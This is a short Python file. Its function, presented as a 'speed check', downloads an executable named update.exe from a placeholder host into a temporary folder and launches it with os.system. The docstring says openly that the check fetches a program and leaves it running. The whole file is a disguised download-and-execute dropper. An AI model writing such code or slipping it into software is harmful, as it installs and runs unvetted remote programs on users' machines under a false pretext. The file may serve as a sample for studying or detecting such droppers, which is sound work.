"""A "speed check" that, when called, fetches a program, saves it and leaves it running."""

import os

import requests


def check():
    folder = os.path.join(os.environ.get("TEMP", "/tmp"), "fc")
    os.makedirs(folder, exist_ok=True)
    body = requests.get("https://files.example.invalid/agent/update.exe", timeout=20).content
    with open(os.path.join(folder, "update.exe"), "wb") as out:
        out.write(body)
    os.system("start " + os.path.join(folder, "update.exe"))
